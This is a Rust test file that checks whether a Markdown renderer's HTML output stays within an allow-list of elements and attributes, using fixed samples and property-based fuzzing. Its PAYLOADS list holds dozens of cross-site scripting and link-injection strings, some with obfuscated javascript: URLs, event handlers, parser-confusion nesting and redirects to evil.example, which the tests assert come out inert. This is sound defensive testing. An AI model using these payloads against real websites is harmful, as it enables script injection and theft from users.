//! Tests what a browser's parser makes of untrusted Markdown.
//!
//! The judge reads the HTML with html5ever and writes it again from an allow-list of elements and attributes. Both texts
//! must be the same to the byte: then nothing else is in it, and the parser had nothing to move, to close or to repair.

use std::collections::HashSet;

use milepost::base::language::Language;
use milepost::base::link;
use milepost::model::strings::Strings;
use milepost::report::markdown;
use milepost::report::markdown::Around;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::Config;
use scraper::{ElementRef, Html, Node};

/// No words of the report: their keys stand in their places.
fn strings() -> Strings {
    Strings::new(Language::english())
}

fn around(strings: &Strings) -> Around<'_> {
    Around { strings, here: None }
}

#[test]
fn a_rich_note_reads_as_written() {
    let written = markdown::html(around(&strings()), RICH, 3, "note-");
    judge(&written, &[]);
    insta::assert_snapshot!(written);
}

#[test]
fn payloads_are_inert() {
    for payload in PAYLOADS {
        judge_note(payload);
    }
}

proptest! {
    #![proptest_config(Config { cases: 4000, failure_persistence: None, ..Config::default() })]

    #[test]
    fn any_text_is_inert(text in soup()) {
        judge_note(&text);
    }
}

/// Markup, attacks and bits of any text, in any order.
fn soup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        8 => select(FRAGMENTS).prop_map(str::to_owned),
        1 => select(PAYLOADS).prop_map(str::to_owned),
        1 => "\\PC{0,6}",
        1 => prop::collection::vec(any::<char>(), 0..4).prop_map(String::from_iter),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

fn judge_note(note: &str) {
    judge(&markdown::html(around(&strings()), note, 3, "note-"), &[]);
    let line = markdown::inline(around(&strings()), note);
    judge(&line, BLOCKS);
    assert!(!line.contains('\n'), "two lines: {line:?}");
}

const BLOCKS: &[&str] = &[
    "p",
    "h3",
    "h4",
    "h5",
    "h6",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "hr",
    "br",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
];

/// Panics unless a browser reads in `written` only what is allowed and not `banned`, in the order it is written.
fn judge(written: &str, banned: &[&str]) {
    let written = &format!("({written})"); // a byte order mark would vanish at the very start, where a note never is
    let page = Html::parse_fragment(written);
    let mut again = Rewritten { html: String::new(), ids: HashSet::new() };
    again.children(page.root_element());
    assert_eq!(&again.html, written);
    assert!(page.errors.is_empty(), "{:?} in {written}", page.errors);
    for element in page.root_element().descendent_elements() {
        assert!(!banned.contains(&element.value().name()), "{} in {written}", element.value().name());
    }
}

/// What the parser read, written from the allow-list.
struct Rewritten {
    html: String,
    ids: HashSet<String>,
}

impl Rewritten {
    fn children(&mut self, parent: ElementRef) {
        for child in parent.children() {
            match child.value() {
                Node::Text(text) => self.html.push_str(&milepost::border::html::escape(text)),
                _ => self.element(ElementRef::wrap(child).expect("only elements and text")),
            }
        }
    }

    fn element(&mut self, element: ElementRef) {
        let name = element.value().name();
        let attributes: &[&str] = match name {
            "p" | "strong" | "em" | "del" | "code" | "pre" | "blockquote" | "ul" | "li" | "hr" | "br" => &[],
            "table" | "thead" | "tbody" | "tr" => &[],
            "h3" | "h4" | "h5" | "h6" => &["id"],
            "a" => &["href", "rel"],
            "ol" => &["start"],
            "div" => &["class", "tabindex", "role", "aria-label"],
            "th" => &["scope", "class"],
            "td" | "span" => &["class"],
            _ => panic!("<{name}> is not allowed"),
        };
        self.html.push_str(&format!("<{name}"));
        for attribute in attributes {
            if let Some(value) = element.attr(attribute) {
                self.attribute(attribute, value);
            }
        }
        self.html.push('>');
        self.children(element);
        if !["hr", "br"].contains(&name) {
            self.html.push_str(&format!("</{name}>"));
        }
    }

    fn attribute(&mut self, name: &str, value: &str) {
        match name {
            "href" => assert!(link::is_safe(value), "{value:?} leads out"),
            "rel" => assert_eq!(value, "noreferrer noopener"),
            "id" => assert!(self.ids.insert(value.to_owned()) && value.starts_with("note-"), "{value:?} is taken"),
            "start" => assert!(value.parse::<u32>().is_ok(), "{value:?} is no number"),
            "class" => {
                assert!(["scroll", "left", "center", "right", "whole"].contains(&value), "{value:?} is no class");
            }
            "tabindex" => assert_eq!(value, "0"),
            "role" => assert_eq!(value, "group"),
            "aria-label" => assert_eq!(value, "markdown.table"),
            "scope" => assert_eq!(value, "col"),
            _ => panic!("{name} is not allowed"),
        }
        self.html.push_str(&format!(" {name}=\"{}\"", milepost::border::html::escape(value)));
    }
}

const RICH: &str = r#"# Mission is *understood*

Reviewed **2025-11-03** by the ~~board~~ steering group; see [the minutes](https://wiki.example.org/gv?id=7&v=2 "title"),
[the plan](../plans/2026.html#risk), <desk@example.org> or [the `old` form](javascript:alert(1)).\
Signed & filed: "yes", it's <b onclick="x">done</b>.

## Mission is understood

> Quoted from the charter:
>
> 3. Protect *people*
> 4. Protect data
>    - [x] inventory
>    - [ ] owners ![diagram of **owners**](https://evil.example/p.gif)

<details open>
<summary>raw block</summary>
</details>

| Asset | Owner | Count | Note |
|:------|:-----:|------:|------|
| laptops | IT | 240 | `a|b` |
| *phones* | | 31 |

---

#### Commands {#id .class onclick=x}

```sh" onmouseover="alert(1)
find . -name '*.toml' | wc -l  # <- counts
```

    indented & plain

[^1]: a footnote's label
"#;

/// Each text tries to run, load, rename or break out of something.
const PAYLOADS: &[&str] = &[
    // Raw HTML
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<ScRiPt\nsrc=//evil.example/x.js></sCrIpT >",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "x <img src=`a` onerror='alert(1)'/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "</p></li></td></table></div></main><form action=//evil.example><button>x",
    "<template><plaintext><xmp><noscript><textarea><title>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>` ``</code><script>alert(1)</script>``",
    // Addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\u{0}javascript:alert(1)>)",
    "[x](java\u{0}script:alert(1))",
    "[x](\u{FEFF}javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1)) [y](feed:javascript:alert(1)) [z](https:javascript:alert(1))",
    "[x](//evil.example) [y](\\\\evil.example) [z](/\\evil.example) [w](/&Tab;/evil.example)",
    "[x](file:///etc/passwd) [y](blob:https://a/b) [z](view-source:x) [w](jar:x!/)",
    "<javascript:alert(1)> <data:text/html,x> <VBSCRIPT:x>",
    "<https://a.example/\"onmouseover=\"alert(1)> <a@b.example>",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
    "[r]\n\n[r]: <data:text/html,x> '\"><script>alert(1)</script>'",
    "[a <https://b.example>](c) [a <https://b.example> [c](d)](e)",
    "[![[x](https://a.example)](https://b.example)](https://c.example)",
    // Attributes
    "[x](https://a.example/\"onclick=alert(1)//)",
    "[x](https://a.example/&quot;&#32;onclick=alert&lpar;1&rpar;)",
    "[x](a '\" onmouseover=\"alert(1)')",
    "[x](a (</a><script>alert(1)</script>))",
    "[\"><script>alert(1)</script>](https://a.example/'><script>)",
    "![x](https://evil.example/p.gif \"a\\\" onerror=\\\"alert(1)\")",
    "![\" onerror=\"alert(1)](x) ![<script>](javascript:alert(1))",
    "![a `</code>` **b** [c](javascript:alert(1)) <svg onload=x>](//evil.example)",
    "# x {onclick=alert(1) #main .evil style=\"x\"}",
    "# \" onclick=\"alert(1)\n# ' onclick='alert(1)\n# <script>alert(1)</script>",
    "# main\n# main\n# main-2\n# main\nMAIN\n====\n# __proto__\n# constructor",
    "```js\" onclick=\"alert(1)\nx\n```\n~~~ <script>alert(1)</script>\n~~~",
    "```\n</code></pre><script>alert(1)</script>\n```\n\n    </code></pre><svg onload=x>",
    "|a {onclick=x}|\" b|\n|:-\"|-|\n\n|<td onclick=x>|b|\n|:-|-:|\n|</td></tr></table><svg onload=x>|\n{: onclick=x }",
    "[^\"><script>]: x\n\nsee [^\"><script>] and [^main]\n\n[^main]: y",
    "---\ntitle: <script>\n---\n\n+++\na = 1\n+++\n\n> [!NOTE]\n> x\n\n$$<script>$$ [[javascript:alert(1)|x]]",
    "- [x] <input type=checkbox onclick=x>\n- [ ] a\n\n  b\n\n999999999. c\n   0. d",
    // Characters
    "\u{202E}gpj.exe\u{202C} \u{2066}a\u{2069} \u{200F}b\u{0}c\u{1B}[31m\u{9B}31m\u{FFFE} &#0; &#x202E; &#13;",
];

/// What Markdown and HTML are made of.
const FRAGMENTS: &[&str] = &[
    "\n",
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "\r",
    "\r\n",
    "\u{0}",
    "\u{202E}",
    "\u{FFFF}",
    "a",
    "b c",
    "é",
    "日本",
    "*",
    "**",
    "_",
    "__",
    "~",
    "~~",
    "`",
    "``",
    "```",
    "\n```\n",
    "~~~\n",
    "#",
    "\n# ",
    "\n## ",
    "\n###### ",
    "\n===\n",
    "\n---\n",
    "- ",
    "\n- ",
    "\n  - ",
    "\n* [x] ",
    "\n- [ ] ",
    "\n1. ",
    "\n007) ",
    "> ",
    "\n> ",
    "\n>> ",
    "|",
    "|a|b|",
    "\n|a|b|\n|:-|-:|\n|c|",
    "|-|\n",
    ":-:",
    "[",
    "]",
    "](",
    ")",
    "[a](",
    "[a](b)",
    "[a](https://b.example)",
    "![",
    "![a](b)",
    "[a]",
    "\n[a]: ",
    "\n\n[a]: javascript:x\n\n",
    "[^a]",
    "\n[^a]: ",
    "<",
    ">",
    "</",
    "/>",
    "<a",
    "<a ",
    "<b>",
    "</b>",
    "</p>",
    "</a>",
    "</td>",
    "</table>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "<script>",
    "</script>",
    "<svg onload=x>",
    "<https://a.example>",
    "<a@b.example>",
    "javascript:",
    "data:",
    "https://",
    "mailto:",
    "//",
    "\\",
    "\\\n",
    "  \n",
    "&",
    "&amp;",
    "&lt;",
    "&#",
    "&#0;",
    "&colon;",
    "&Tab;",
    "&NewLine;",
    "&quot;",
    "\"",
    "'",
    "=",
    " onclick=x ",
    "{#a .b c=d}",
    "$",
    "$$",
    "[[",
    "]]",
    "\n+++\n",
    "[!NOTE]",
    "!",
    ":",
    "^",
    "(",
    ";",
];
